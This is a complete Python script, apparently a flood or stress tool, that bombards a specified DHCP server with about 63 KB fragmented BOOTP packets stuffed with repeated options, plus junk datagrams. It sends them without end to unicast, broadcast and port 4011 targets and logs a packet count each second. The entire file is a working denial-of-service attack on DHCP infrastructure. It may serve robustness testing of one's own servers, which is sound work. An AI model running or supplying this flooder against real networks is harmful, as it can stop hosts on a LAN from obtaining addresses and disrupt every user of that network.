"""Floods a DHCP server from a LAN host until killed: 63 KB option bombs (the kernel sends
them as fragments and the server's kernel reassembles them), unicast and broadcast, with a
few small junk datagrams among them. Prints {"sent": n} once a second."""

import json
import socket
import struct
import sys
import time

server = sys.argv[1]


def bomb(items):
    head = bytearray(240)
    head[0:4] = bytes([1, 1, 6, 0])
    head[4:8] = struct.pack("!I", 0x0BADF00D)
    head[28:34] = bytes.fromhex("02000000beef")
    head[236:240] = struct.pack("!I", 0x63825363)
    return bytes(head) + bytes([77, 1, 0x41]) * items + b"\xff"


big = bomb(21000)
junk = b"\x01" * 300
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
s.bind(("0.0.0.0", 68))
sent = 0
last = time.monotonic()
while True:
    for dst in ((server, 67), ("255.255.255.255", 67), (server, 4011)):
        try:
            s.sendto(big, dst)
            s.sendto(junk, dst)
            sent += 2
        except OSError:
            time.sleep(0.001)
    now = time.monotonic()
    if now - last >= 1:
        last = now
        sys.stdout.write(json.dumps({"sent": sent}) + "\n")
        sys.stdout.flush()
